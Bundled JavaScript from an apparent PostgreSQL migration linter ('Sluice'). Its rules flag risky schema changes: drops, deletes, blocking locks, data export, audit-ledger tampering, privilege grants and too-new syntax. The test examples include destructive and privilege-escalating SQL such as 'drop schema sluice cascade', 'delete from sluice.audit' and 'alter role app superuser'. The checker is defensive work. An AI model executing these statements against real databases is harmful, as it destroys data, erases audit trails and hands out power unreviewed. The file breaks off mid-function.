import { n as objectName, t as lockModes } from "./effect-BknNBniV.js";
import { t as tokensOf } from "./lexer-CFRcpG3K.js";
/** The tree wraps each node in an object with one key, its tag. */
function hasTag(node, tag) {
	return Object.hasOwn(node, tag);
}
/** The node below its tag, or undefined when it is of another kind. */
function nodeAs(node, tag) {
	return node !== void 0 && hasTag(node, tag) ? node[tag] : void 0;
}
/** Those of the nodes that have this tag. */
function nodesAs(nodes, tag) {
	return (nodes ?? []).flatMap((node) => nodeAs(node, tag) ?? []);
}
/** The strings of a list such as a qualified name. */
function namesOf(nodes) {
	return nodesAs(nodes, "String").map((text) => text.sval ?? "");
}
/** Key and value of each property that holds a tree, in source order. */
function childrenOf(tree) {
	return Object.entries(tree).flatMap(([key, value]) => typeof value === "object" && value !== null ? [[key, value]] : []);
}
/** Whether any node at any depth satisfies the condition; the first may be the tree itself. */
function someNode(tree, condition) {
	const pending = tree === void 0 ? [] : [tree];
	for (let node = pending.pop(); node !== void 0; node = pending.pop()) {
		if (condition(node)) return true;
		for (const [, child] of childrenOf(node)) pending.push(child);
	}
	return false;
}
/** The option of this name in a list of DefElem. */
function optionNamed(options, name) {
	return nodesAs(options, "DefElem").find((option) => option.defname === name);
}
/** A boolean option: present without a value means true. */
function isOptionOn(options, name) {
	const option = optionNamed(options, name);
	if (option === void 0) return false;
	const text = constantText(option.arg)?.toLowerCase();
	return text === void 0 || ![
		"false",
		"off",
		"0",
		"no",
		"f"
	].includes(text);
}
/** A constant as text, or undefined when it is no constant; casts are looked through. */
function constantText(node) {
	const cast = nodeAs(node, "TypeCast");
	if (cast !== void 0) return constantText(cast.arg);
	const bare = nodeAs(node, "String") ?? void 0;
	if (bare !== void 0) return bare.sval ?? "";
	const integer = nodeAs(node, "Integer");
	if (integer !== void 0) return String(integer.ival ?? 0);
	const truth = nodeAs(node, "Boolean");
	if (truth !== void 0) return String(truth.boolval ?? false);
	return literalText(nodeAs(node, "A_Const"));
}
function literalText(literal) {
	if (literal === void 0 || literal.isnull === true) return void 0;
	const { ival, boolval } = literal;
	if (ival !== void 0) return String(ival.ival ?? 0);
	if (boolval !== void 0) return String(boolval.boolval ?? false);
	return writtenText(literal);
}
function writtenText({ sval, fval, bsval }) {
	return [
		sval?.sval,
		fval?.fval,
		bsval?.bsval
	].find((text) => text !== void 0) ?? "";
}
/** A rule; its id is its file name, kebab-case, and is never used again for another meaning. */
function defineRule(definition) {
	const { id } = definition;
	if (!isRuleId(id)) throw new TypeError(`A rule id is in kebab-case: ${id}`);
	return {
		...definition,
		id
	};
}
function isRuleId(text) {
	return /^[a-z]+(?:-[a-z]+)*$/.test(text);
}
/** The effects of one kind. */
function ofKind(effects, kind) {
	return effects.filter((effect) => effect.kind === kind);
}
const alterColumnType = defineRule({
	id: "alter-column-type",
	title: "The type of a column changes",
	why: "The table is usually rewritten while nobody can read it, and a narrower type or USING can lose values.",
	instead: "Add a column of the new type, fill it in batches, switch the clients, then drop the old one.",
	invalid: [{
		sql: "alter table users alter column id type bigint",
		level: "high",
		message: "Changes the type of column users.id."
	}],
	valid: ["create table scratch (id int); alter table scratch alter column id type bigint"],
	check: ({ effects }) => ofKind(effects, "alters").filter(({ change, object }) => change === "column-type" && !object.createdHere).map((effect) => ({
		effect,
		level: "high",
		message: `Changes the type of ${objectName(effect.object)}.`,
		destructive: true
	}))
});
const auditTampering = defineRule({
	id: "audit-tampering",
	title: "Sluice’s own ledger is touched",
	why: "The record of what was applied must not be changed by what is applied.",
	instead: "Leave the schema sluice alone.",
	invalid: [
		{
			sql: "delete from sluice.audit where id = 1",
			level: "critical",
			message: "Touches table sluice.audit, which keeps the record of applied changes."
		},
		{
			sql: "drop schema sluice cascade",
			level: "critical",
			message: "Touches schema sluice, which keeps the record of applied changes."
		},
		{
			sql: "create trigger quiet before insert on sluice.audit for each row execute function f()",
			level: "critical",
			message: "Touches trigger sluice.audit.quiet, which keeps the record of applied changes."
		}
	],
	valid: ["create table sluices (id int)"],
	check: ({ effects }) => effects.flatMap((effect) => {
		const object = touchedObject(effect);
		if (object === void 0 || !isLedger(object)) return [];
		return [{
			effect,
			level: "critical",
			message: `Touches ${objectName(object)}, which keeps the record of applied changes.`,
			destructive: true,
			denies: true
		}];
	})
});
/** What others see of a lock is reported by what takes it. */
function touchedObject(effect) {
	if (effect.kind === "locks" || effect.kind === "scans" || effect.kind === "rewrites") return void 0;
	return "object" in effect ? effect.object : void 0;
}
function isLedger({ kind, schema, name }) {
	return schema === "sluice" || kind === "schema" && name === "sluice";
}
const blockingLock = defineRule({
	id: "blocking-lock",
	title: "A table is locked for its own sake",
	why: "Whoever reads or writes it waits until the whole transaction ends.",
	instead: "Leave the locking to the statements that need it, or refresh CONCURRENTLY.",
	invalid: [{
		sql: "lock table users",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on table users until the end."
	}, {
		sql: "refresh materialized view totals",
		level: "medium",
		message: "Holds ACCESS EXCLUSIVE on materialized view totals until the end."
	}],
	valid: [
		"lock table users in row exclusive mode",
		"alter table users add column note text",
		"create table drafts (id bigint); lock table drafts"
	],
	check: ({ effects }) => {
		const otherwise = new Set(effects.filter(isOtherwise).map(statementOf));
		return ofKind(effects, "locks").filter(({ mode }) => lockModes.indexOf(mode) >= lockModes.indexOf("SHARE")).filter((lock) => lock.source === "static" && !lock.object.createdHere).filter((lock) => !otherwise.has(statementOf(lock))).map((effect) => ({
			effect,
			level: "medium",
			message: `Holds ${effect.mode} on ${objectName(effect.object)} until the end.`
		}));
	}
});
/** The same statement does something else, which has its own rules. */
function isOtherwise(effect) {
	return effect.kind !== "locks" && effect.source === "static";
}
function statementOf({ unitId, statement }) {
	return `${statement} ${unitId}`;
}
const blockingScan = defineRule({
	id: "blocking-scan",
	title: "A table is read or rewritten as a whole while it is locked",
	why: "Writers, and often readers too, wait until every row has been looked at.",
	instead: "Add the constraint NOT VALID and validate it in a later change; rewrite in batches.",
	invalid: [
		{
			sql: "alter table users add constraint positive check (age > 0)",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users alter column email set not null",
			level: "medium",
			message: "Reads all of table users under a lock that blocks writes."
		},
		{
			sql: "alter table users add column token uuid default gen_random_uuid()",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		},
		{
			sql: "vacuum full users",
			level: "high",
			message: "Rewrites table users while nobody can read it."
		}
	],
	valid: ["alter table users add constraint positive check (age > 0) not valid", "alter table users add column note text"],
	check: ({ effects }) => {
		const scans = ofKind(effects, "scans").filter((effect) => isBlocking(effect, effects));
		const rewrites = ofKind(effects, "rewrites").filter((effect) => !effect.object.createdHere && !changesType(effect, effects));
		return [...scans.map((effect) => ({
			effect,
			level: "medium",
			message: `Reads all of ${objectName(effect.object)} under a lock that blocks writes.`
		})), ...rewrites.map((effect) => ({
			effect,
			level: "high",
			message: `Rewrites ${objectName(effect.object)} while nobody can read it.`
		}))];
	}
});
function isBlocking(scan, effects) {
	if (scan.object.createdHere) return false;
	return ofKind(effects, "locks").some((effect) => isSameStatement(effect, scan) && effect.object.name === scan.object.name && lockModes.indexOf(effect.mode) >= lockModes.indexOf("SHARE"));
}
/** alter-column-type has said so already. */
function changesType(rewrite, effects) {
	return ofKind(effects, "alters").some((effect) => isSameStatement(effect, rewrite) && effect.change === "column-type");
}
function isSameStatement(a, b) {
	return a.unitId === b.unitId && a.statement === b.statement;
}
const dataExport = defineRule({
	id: "data-export",
	title: "Data leaves the database",
	why: "The rows go to whoever runs the change, unmasked.",
	instead: "Leave exports out of governed changes.",
	invalid: [{
		sql: "copy users to stdout",
		level: "high",
		message: "Copies table users out of the database."
	}, {
		sql: "copy (select 1) to stdout",
		level: "high",
		message: "Copies a query’s rows out of the database."
	}],
	valid: ["select count(*) from users"],
	check: ({ effects }) => ofKind(effects, "exports").map((effect) => {
		return {
			effect,
			level: "high",
			message: `Copies ${effect.object === void 0 ? "a query’s rows" : objectName(effect.object)} out of the database.`
		};
	})
});
const deleteRows = defineRule({
	id: "delete-rows",
	title: "Rows are deleted",
	why: "Deleted rows come back from a backup only, and rows of other tables may follow through foreign keys.",
	instead: "Delete by key, keep a copy of the rows, and compare the count with the rehearsal.",
	invalid: [{
		sql: "delete from users where created_at < '2020-01-01'",
		level: "high",
		message: "Deletes rows of table users that a condition selects."
	}, {
		sql: "delete from users where id = 7",
		level: "medium",
		message: "Deletes rows of table users by key."
	}],
	valid: ["create table scratch (id int); delete from scratch where id > 3"],
	check: ({ effects }) => ofKind(effects, "writes").flatMap((effect) => {
		const { object, verb, reach, rows } = effect;
		if (verb !== "delete" || object.createdHere) return [];
		if (reach === "unbounded" || reach === "tautology") return [];
		const by = reach === "keyed" ? " by key" : " that a condition selects";
		const message = rows === void 0 ? `Deletes rows of ${objectName(object)}${by}.` : `Deletes ${rows} ${rows === 1 ? "row" : "rows"} of ${objectName(object)}.`;
		return [{
			effect,
			level: reach === "keyed" ? "medium" : "high",
			message,
			destructive: true
		}];
	})
});
const dropColumn = defineRule({
	id: "drop-column",
	title: "A column is dropped",
	why: "Its values are lost in every row, and clients that still name the column fail at once.",
	instead: "Release a version that no longer reads or writes the column first, then drop it with its owner’s approval.",
	invalid: [{
		sql: "alter table public.users drop column email",
		level: "high",
		message: "Drops column public.users.email."
	}, {
		sql: "alter table users drop column if exists email cascade",
		level: "high",
		message: "Drops column users.email and everything that depends on it."
	}],
	valid: ["create table scratch (id int, note text); alter table scratch drop column note"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.kind !== "column" || object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
/** Kinds whose loss weighs more or less than `high`. */
const levels = {
	schema: "critical",
	database: "critical",
	extension: "critical",
	"owned-objects": "critical",
	tablespace: "critical",
	index: "medium",
	statistics: "medium"
};
const dropObject = defineRule({
	id: "drop-object",
	title: "An object is dropped",
	why: "Whatever uses it fails at once, and what it held or protected is gone.",
	instead: "Make sure that nothing uses it any more, without CASCADE, and let its owner approve.",
	invalid: [
		{
			sql: "drop schema billing cascade",
			level: "critical",
			message: "Drops schema billing and everything that depends on it."
		},
		{
			sql: "drop view public.report",
			level: "high",
			message: "Drops view public.report."
		},
		{
			sql: "drop index users_email",
			level: "medium",
			message: "Drops index users_email."
		},
		{
			sql: "drop policy tenant on users",
			level: "high",
			message: "Drops policy users.tenant."
		}
	],
	valid: ["create view scratch as select 1; drop view scratch"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if ([
			"table",
			"foreign-table",
			"column"
		].includes(object.kind)) return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		const destructive = cascade || object.kind !== "index" && object.kind !== "statistics";
		return [{
			effect,
			level: levels[object.kind] ?? "high",
			message: `Drops ${objectName(object)}${more}.`,
			destructive
		}];
	})
});
const dropTable = defineRule({
	id: "drop-table",
	title: "A table is dropped",
	why: "Every row is gone when the change commits, and only a backup brings it back.",
	instead: "Stop using the table first, rename it and keep it for a while, then drop it with its owner’s approval.",
	invalid: [
		{
			sql: "drop table public.users",
			level: "critical",
			message: "Drops table public.users."
		},
		{
			sql: "drop table if exists orders cascade",
			level: "critical",
			message: "Drops table orders and everything that depends on it."
		},
		{
			sql: "create table if not exists users (id int); drop table users",
			level: "critical",
			message: "Drops table users."
		},
		{
			sql: "create temp table users (id int); drop table users; drop table users",
			level: "critical",
			message: "Drops table users."
		}
	],
	valid: ["create table scratch (id int); drop table scratch"],
	check: ({ effects }) => ofKind(effects, "drops").flatMap((effect) => {
		const { object, cascade } = effect;
		if (object.kind !== "table" && object.kind !== "foreign-table") return [];
		if (object.createdHere && !cascade) return [];
		const more = cascade ? " and everything that depends on it" : "";
		return [{
			effect,
			level: "critical",
			message: `Drops ${objectName(object)}${more}.`,
			destructive: true
		}];
	})
});
const filteredUpdate = defineRule({
	id: "filtered-update",
	title: "Rows are updated, nobody knows how many",
	why: "The condition names no key, so only the rehearsal tells how much it reaches.",
	instead: "Update by key, or in batches, and compare the count with the rehearsal.",
	invalid: [{
		sql: "update users set active = false where last_seen < '2020-01-01'",
		level: "medium",
		message: "Updates rows of table users that a condition selects."
	}],
	valid: ["update users set active = false where id in (1, 2, 3)"],
	check: ({ effects }) => ofKind(effects, "writes").filter(({ object, verb, reach }) => verb === "update" && reach === "filtered" && !object.createdHere).map((effect) => ({
		effect,
		level: "medium",
		message: `Updates rows of ${objectName(effect.object)} that a condition selects.`
	}))
});
const grantToPublic = defineRule({
	id: "grant-to-public",
	title: "Everybody gets a privilege",
	why: "PUBLIC is every role of the cluster, those of the future included.",
	instead: "Grant the privilege to the role that needs it.",
	invalid: [
		{
			sql: "grant select on public.users to public",
			level: "high",
			message: "Grants select on table public.users to PUBLIC."
		},
		{
			sql: "grant all on all tables in schema public to public",
			level: "high",
			message: "Grants all on several objects to PUBLIC."
		},
		{
			sql: "create table t (id int); grant select on t to public",
			level: "high",
			message: "Grants select on table t to PUBLIC."
		}
	],
	valid: ["create table scratch (id int); grant select on scratch to reporting"],
	check: ({ effects }) => ofKind(effects, "grants").filter(({ to }) => to.includes("public")).map((effect) => ({
		effect,
		level: "high",
		message: `Grants ${effect.privileges.join(", ")} on ${targetOf(effect)} to PUBLIC.`
	}))
});
function targetOf({ object }) {
	return object === void 0 ? "several objects" : objectName(object).trim();
}
const indexWithoutConcurrently = defineRule({
	id: "index-without-concurrently",
	title: "An index is built while writes are blocked",
	why: "Nobody can write to the table until the whole index is built.",
	instead: "Use CREATE INDEX CONCURRENTLY alone in its own file; add a constraint USING INDEX afterwards.",
	invalid: [{
		sql: "create index users_email on users (email)",
		level: "medium",
		message: "Builds index users_email on table users while writes are blocked."
	}, {
		sql: "alter table users add constraint users_email unique (email)",
		level: "medium",
		message: "Builds index users_email on table users while writes are blocked."
	}],
	valid: ["create index concurrently users_email on users (email)", "create table scratch (id int); create index scratch_id on scratch (id)"],
	check: ({ effects }) => ofKind(effects, "builds-index").filter((effect) => !effect.concurrently && !effect.object.createdHere).map((effect) => {
		return {
			effect,
			level: "medium",
			message: `Builds ${effect.index === "" ? "an index" : `index ${effect.index}`} on ${objectName(effect.object)} while writes are blocked.`
		};
	})
});
/** Parameters that a server refuses to set before this major version. */
const settings$1 = {
	stats_fetch_consistency: 15,
	recursive_worktable_factor: 15,
	createrole_self_grant: 16,
	vacuum_buffer_usage_limit: 16,
	enable_presorted_aggregate: 16,
	transaction_timeout: 17,
	event_triggers: 17,
	vacuum_truncate: 18,
	file_copy_method: 18,
	enable_self_join_elimination: 18,
	enable_distinct_reordering: 18
};
/** From the sections "Migration to Version" and "Changes" of PostgreSQL's release notes, 15 to 18. */
const syntaxClues = [
	clue("MergeStmt", 15, "MERGE"),
	clue("MergeStmt", 17, "MERGE with RETURNING", ({ returningClause }) => returningClause !== void 0),
	clue("MergeWhenClause", 17, "WHEN NOT MATCHED BY SOURCE", ({ matchKind }) => matchKind === "MERGE_WHEN_NOT_MATCHED_BY_SOURCE"),
	clue("IndexStmt", 15, "NULLS NOT DISTINCT", (index) => index.nulls_not_distinct === true),
	clue("Constraint", 15, "NULLS NOT DISTINCT", (constraint) => constraint.nulls_not_distinct === true),
	clue("Constraint", 15, "ON DELETE SET with a list of columns", ({ fk_del_set_cols }) => fk_del_set_cols !== void 0),
	clue("DefElem", 15, "security_invoker", ({ defname }) => defname === "security_invoker"),
	clue("GrantStmt", 15, "GRANT ON PARAMETER", ({ objtype }) => objtype === "OBJECT_PARAMETER_ACL"),
	clue("AlterTableCmd", 15, "SET ACCESS METHOD", ({ subtype }) => subtype === "AT_SetAccessMethod"),
	clue("CopyStmt", 15, "COPY with HEADER MATCH", ({ options }) => headerMatches(options)),
	clue("PublicationObjSpec", 15, "a publication of a schema", ({ pubobjtype }) => (pubobjtype ?? "").startsWith("PUBLICATIONOBJ_TABLES_IN")),
	clue("PublicationObjSpec", 15, "a publication of some rows or columns", ({ pubtable }) => pubtable?.whereClause !== void 0 || pubtable?.columns !== void 0),
	...[
		"JsonObjectConstructor",
		"JsonArrayConstructor",
		"JsonArrayQueryConstructor",
		"JsonObjectAgg",
		"JsonArrayAgg"
	].map((tag) => clue(tag, 16, "the SQL/JSON constructors")),
	clue("JsonIsPredicate", 16, "IS JSON"),
	clue("RangeSubselect", 16, "a subquery in FROM without an alias", ({ alias }) => alias === void 0),
	clue("CreateStatsStmt", 16, "CREATE STATISTICS without a name", ({ defnames }) => defnames === void 0),
	clue("ColumnDef", 16, "STORAGE in CREATE TABLE", ({ storage_name }) => storage_name !== void 0),
	clue("GrantRoleStmt", 16, "GRANT of a role WITH INHERIT or SET", ({ opt }) => hasOption(opt, "inherit", "set")),
	clue("CopyStmt", 16, "COPY with DEFAULT", ({ options }) => hasOption(options, "default")),
	clue("ExplainStmt", 16, "EXPLAIN (GENERIC_PLAN)", ({ options }) => hasOption(options, "generic_plan")),
	clue("VacuumStmt", 16, "VACUUM (BUFFER_USAGE_LIMIT)", ({ options }) => hasOption(options, "buffer_usage_limit")),
	clue("FuncCall", 16, "SYSTEM_USER", (call) => isSqlCall(call, "system_user")),
	...[
		"JsonFuncExpr",
		"JsonParseExpr",
		"JsonScalarExpr",
		"JsonSerializeExpr"
	].map((tag) => clue(tag, 17, "the SQL/JSON query functions")),
	clue("JsonTable", 17, "JSON_TABLE"),
	clue("AlterTableCmd", 17, "SET EXPRESSION", ({ subtype }) => subtype === "AT_SetExpression"),
	clue("AlterTableCmd", 17, "SET ACCESS METHOD DEFAULT", ({ subtype, name }) => subtype === "AT_SetAccessMethod" && name === void 0),
	clue("GrantStmt", 17, "the privilege MAINTAIN", givesMaintain),
	clue("AlterDefaultPrivilegesStmt", 17, "the privilege MAINTAIN", ({ action }) => givesMaintain(action ?? {})),
	clue("CopyStmt", 17, "COPY with ON_ERROR", ({ options }) => hasOption(options, "on_error")),
	clue("CopyStmt", 17, "COPY with LOG_VERBOSITY", ({ options }) => hasOption(options, "log_verbosity")),
	clue("ExplainStmt", 17, "EXPLAIN (MEMORY or SERIALIZE)", ({ options }) => hasOption(options, "memory", "serialize")),
	clue("FuncCall", 17, "AT LOCAL", (call) => isSqlCall(call, "timezone") && (call.args ?? []).length === 1),
	clue("Constraint", 18, "GENERATED … VIRTUAL", ({ generated_kind }) => generated_kind === "v"),
	clue("Constraint", 18, "NOT ENFORCED", isNotEnforced),
	clue("Constraint", 18, "NOT NULL as a constraint of the table", ({ contype, keys }) => contype === "CONSTR_NOTNULL" && keys !== void 0),
	clue("Constraint", 18, "WITHOUT OVERLAPS", ({ without_overlaps }) => without_overlaps === true),
	clue("Constraint", 18, "PERIOD", ({ fk_with_period }) => fk_with_period === true),
	clue("ATAlterConstraint", 18, "ALTER CONSTRAINT with ENFORCED or INHERIT", ({ alterEnforceability, alterInheritability }) => alterEnforceability === true || alterInheritability === true),
	clue("CopyStmt", 18, "COPY with REJECT_LIMIT", ({ options }) => hasOption(options, "reject_limit")),
	clue("VacuumRelation", 18, "VACUUM or ANALYZE ONLY", ({ relation }) => relation?.inh !== true && relation !== void 0),
	clue("CreateForeignTableStmt", 18, "LIKE in CREATE FOREIGN TABLE", ({ base }) => (base?.tableElts ?? []).some((element) => nodeAs(element, "TableLikeClause") !== void 0)),
	clue("InsertStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("UpdateStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("DeleteStmt", 18, "RETURNING WITH", hasReturningOptions),
	clue("MergeStmt", 18, "RETURNING WITH", hasReturningOptions),
	...[
		clue("InsertStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("UpdateStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("DeleteStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew),
		clue("MergeStmt", 18, "RETURNING of OLD and NEW", returnsOldOrNew)
	].map((oldOrNew) => ({
		...oldOrNew,
		notInBodies: true
	})),
	...Object.entries(settings$1).flatMap(([name, since]) => [
		clue("VariableSetStmt", since, name, (set) => set.name === name),
		clue("AlterRoleSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterDatabaseSetStmt", since, name, ({ setstmt }) => setstmt?.name === name),
		clue("AlterSystemStmt", since, name, ({ setstmt }) => setstmt?.name === name)
	])
];
function clue(tag, since, feature, when = () => true) {
	const holds = (node) => {
		const found = nodeAs(node, tag);
		return found !== void 0 && when(found);
	};
	return {
		tag,
		since,
		feature,
		notInBodies: false,
		holds
	};
}
function hasOption(options, ...names) {
	return names.some((name) => optionNamed(options, name) !== void 0);
}
function headerMatches(options) {
	return nodeAs(optionNamed(options, "header")?.arg, "String")?.sval?.toLowerCase() === "match";
}
/** Words that the grammar itself turns into a call. */
function isSqlCall(call, name) {
	return call.funcformat === "COERCE_SQL_SYNTAX" && namesOf(call.funcname).at(-1) === name;
}
function givesMaintain({ privileges }) {
	return nodesAs(privileges, "AccessPriv").some(({ priv_name }) => priv_name === "maintain");
}
function isNotEnforced({ contype, is_enforced }) {
	return (contype === "CONSTR_CHECK" || contype === "CONSTR_FOREIGN") && is_enforced !== true;
}
function hasReturningOptions(statement) {
	return statement.returningClause?.options !== void 0;
}
/** A table or an alias of that name is what the words mean on every version. */
function returnsOldOrNew(statement) {
	return ["old", "new"].some((word) => someNode(statement.returningClause, (node) => startsWith(node, word)) && !someNode(statement, (node) => isNamed(node, word)));
}
function startsWith(node, word) {
	const fields = nodeAs(node, "ColumnRef")?.fields;
	return (fields ?? []).length > 1 && nodeAs(fields?.[0], "String")?.sval === word;
}
function isNamed(node, word) {
	return "aliasname" in node && node.aliasname === word || "relname" in node && node.relname === word;
}
/** What a server of this major version would refuse or read differently. */
function newerSyntax$1(scripts, major) {
	return scripts.flatMap(({ unitId, statements }) => statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : needsOf(statement).filter(({ since }) => since > major).map((need) => ({
		...need,
		unitId,
		statement: index,
		source: "static"
	}))));
}
function needsOf({ node, text, bodies }) {
	return [
		...needsOfTree(node, () => true),
		...needsOfNumbers(text),
		...bodies.flatMap((body) => needsOfBody(body))
	];
}
function needsOfBody(body) {
	if (body.kind === "opaque") return [];
	return body.parts.flatMap((part) => "node" in part ? [...needsOfTree(part.node, ({ notInBodies }) => !notInBodies), ...needsOfNumbers(part.text)] : []);
}
const cluesByTag = /* @__PURE__ */ new Map();
for (const clue of syntaxClues) cluesByTag.set(clue.tag, [...cluesByTag.get(clue.tag) ?? [], clue]);
function needsOfTree(tree, counts) {
	const needs = [];
	const pending = [tree];
	for (let node = pending.pop(); node !== void 0; node = pending.pop()) {
		const here = node;
		for (const [key, child] of childrenOf(here)) {
			const clues = cluesByTag.get(key) ?? [];
			needs.push(...clues.filter((clue) => counts(clue) && clue.holds(here)));
			pending.push(child);
		}
	}
	return needs;
}
/** The tree holds the value alone. An older server reads `0x1f` as the number 0 named `x1f`. */
function needsOfNumbers(text) {
	return [...tokensOf(text)].some(({ kind, start, end }) => kind === "number" && /^0[xob]|_/i.test(text.slice(start, end))) ? [{
		feature: "a number with 0x, 0o, 0b or an underscore",
		since: 16
	}] : [];
}
const newerSyntax = defineRule({
	id: "newer-syntax",
	title: "The database is too old for this syntax",
	why: "It is read with the grammar of PostgreSQL 18: an older server refuses it, or reads it differently from how it was judged.",
	instead: "Write it in a way that the database’s version knows, or upgrade the database first.",
	invalid: [
		{
			sql: "create unique index concurrently users_email on users (email) nulls not distinct",
			postgres: 14,
			level: "high",
			message: "Uses NULLS NOT DISTINCT, which PostgreSQL 14 does not know: it came with 15."
		},
		{
			sql: "select 0x1f",
			postgres: 15,
			level: "high",
			message: "Uses a number with 0x, 0o, 0b or an underscore, which PostgreSQL 15 does not know: it came with 16."
		},
		{
			sql: "set transaction_timeout = '5s'",
			postgres: 16,
			level: "high",
			message: "Uses transaction_timeout, which PostgreSQL 16 does not know: it came with 17."
		},
		{
			sql: "create table orders (net int, gross int generated always as (net * 2) virtual)",
			postgres: 17,
			level: "high",
			message: "Uses GENERATED … VIRTUAL, which PostgreSQL 17 does not know: it came with 18."
		}
	],
	valid: ["create table orders (net int, gross int generated always as (net * 2) stored)"],
	check: ({ scripts, postgres }) => postgres === void 0 ? [] : newerSyntax$1(scripts, postgres).map((effect) => ({
		effect,
		level: "high",
		message: `Uses ${effect.feature}, which PostgreSQL ${postgres} does not know: it came with ${effect.since}.`
	}))
});
const observedNotPredicted = defineRule({
	id: "observed-not-predicted",
	title: "The rehearsal did something that the text does not say",
	why: "Triggers, cascades, functions or dynamic SQL did it: whoever reads the text does not see it.",
	instead: "Write the effect into the change as a plain statement, or say why it is meant.",
	invalid: [{
		sql: "do $$ begin execute 'delete ' || 'from users'; end $$",
		level: "critical",
		message: "Observed, not predicted: delete of 3 rows in table public.users."
	}],
	valid: ["update users set name = 'a' where id = 7"],
	check: ({ effects }) => effects.filter(({ source }) => source === "observed").map((effect) => ({
		effect,
		level: levelOf$1(effect),
		message: `Observed, not predicted: ${describe(effect)}.`,
		destructive: isLoss(effect)
	}))
});
function isLoss(effect) {
	return effect.kind === "drops" || effect.kind === "writes" && effect.verb !== "insert";
}
function levelOf$1(effect) {
	if (isLoss(effect)) return "critical";
	if (effect.kind === "locks" || effect.kind === "rewrites") return "medium";
	return "high";
}
function describe(effect) {
	const name = "object" in effect && effect.object !== void 0 ? objectName(effect.object) : "";
	if (effect.kind === "writes") return `${effect.verb} of ${rowsOf(effect.rows ?? 0)} in ${name}`;
	if (effect.kind === "locks") return `${effect.mode} lock on ${name}`;
	return `${effect.kind} ${name}`;
}
function rowsOf(count) {
	return count === 1 ? "1 row" : `${count} rows`;
}
const opaqueDynamicSql = defineRule({
	id: "opaque-dynamic-sql",
	title: "SQL text is put together while the change runs",
	why: "What it executes is not in the reviewed text and can differ between databases.",
	instead: "Write the statements themselves, one by one.",
	invalid: [{
		sql: "do $$ begin execute 'drop table ' || 'users'; end $$",
		level: "high",
		message: "Executes SQL that is built at run time: drop table users"
	}, {
		sql: "select query_to_xml('delete from users', true, true, '')",
		level: "high",
		message: "Executes SQL that is built at run time: delete from users"
	}],
	valid: ["do $$ begin update users set name = 'a' where id = 7; end $$"],
	check: ({ effects }) => ofKind(effects, "executes-dynamic").map((effect) => ({
		effect,
		level: "high",
		message: `Executes SQL that is built at run time: ${effect.text.replace(/^SELECT /, "")}`,
		destructive: /\b(?:drop|delete|truncate|update)\b/i.test(effect.text),
		unknown: true
	}))
});
const settings = /* @__PURE__ */ new Set([
	"standard_conforming_strings",
	"backslash_quote",
	"escape_string_warning",
	"client_encoding",
	"names"
]);
const parseSetting = defineRule({
	id: "parse-setting",
	title: "A setting changes how SQL text is read",
	why: "The server would read the following statements differently from how they were judged.",
	instead: "Leave the setting alone; write strings that need no backslash.",
	invalid: [{
		sql: "set standard_conforming_strings = off",
		level: "critical",
		message: "Sets standard_conforming_strings, which changes how SQL text is read."
	}, {
		sql: "select set_config('client_encoding', 'sjis', false)",
		level: "critical",
		message: "Sets client_encoding, which changes how SQL text is read."
	}],
	valid: ["set lock_timeout = '5s'"],
	check: ({ effects }) => ofKind(effects, "sets").filter(({ setting }) => settings.has(setting)).map((effect) => ({
		effect,
		level: "critical",
		message: `Sets ${effect.setting}, which changes how SQL text is read.`,
		unknown: true,
		denies: true
	}))
});
/** Alterations that take a protection away or move power, in words. */
const changes$1 = {
	owner: "Changes the owner of",
	"disable-row-security": "Switches row security off for",
	"no-force-row-security": "Lets the owner bypass row security of",
	"disable-trigger": "Disables triggers:",
	"disable-rule": "Disables a rule:",
	"enable-trigger": "Enables triggers:",
	"instead-rule": "Replaces what a statement does by",
	rule: "Adds to what a statement does by",
	policy: "Opens or changes",
	"security-definer": "Runs with its owner’s rights:",
	"security-label": "Changes the security label of",
	"role-attributes": "Changes the attributes of"
};
const powers = /superuser|createrole|bypassrls|replication|pg_\w+/;
const privilegedChange = defineRule({
	id: "privileged-change",
	title: "Power or protection changes hands",
	why: "Who can read, write or bypass controls is different afterwards, whatever else was reviewed.",
	instead: "Let the owner of the object and the people who guard privileges approve it.",
	invalid: [
		{
			sql: "grant app_owner to app",
			level: "high",
			message: "Grants app_owner to app."
		},
		{
			sql: "grant pg_write_all_data to app",
			level: "critical",
			message: "Grants pg_write_all_data to app."
		},
		{
			sql: "grant select on users to app",
			level: "medium",
			message: "Grants select on table users to app."
		},
		{
			sql: "revoke select on users from app",
			level: "medium",
			message: "Revokes select on table users from app."
		},
		{
			sql: "alter role app superuser",
			level: "critical",
			message: "Changes the attributes of role app: superuser."
		},
		{
			sql: "alter table users owner to app",
			level: "high",
			message: "Changes the owner of table users: app."
		},
		{
			sql: "alter table users disable row level security",
			level: "high",
			message: "Switches row security off for table users."
		},
		{
			sql: "alter table users disable trigger all",
			level: "high",
			message: "Disables triggers: table users."
		}
	],
	valid: ["create table scratch (id int); alter table scratch enable row level security"],
	check: ({ effects }) => [
		...ofKind(effects, "grants").flatMap(granted),
		...ofKind(effects, "revokes").flatMap(revoked),
		...ofKind(effects, "alters").flatMap(altered)
	]
});
function granted(effect) {
	const { object, privileges, to, withGrantOption } = effect;
	if (to.includes("public") || object?.createdHere === true && !withGrantOption) return [];
	const option = withGrantOption ? ", who can grant it on" : "";
	const message = `Grants ${privileges.join(", ")}${onObject(effect)} to ${to.join(", ")}${option}.`;
	const membership = object === void 0;
	return [{
		effect,
		level: membership && powers.test(privileges.join(" ")) ? "critical" : membership || withGrantOption ? "high" : "medium",
		message
	}];
}
function revoked(effect) {
	const { object, privileges, from } = effect;
	if (object?.createdHere === true) return [];
	return [{
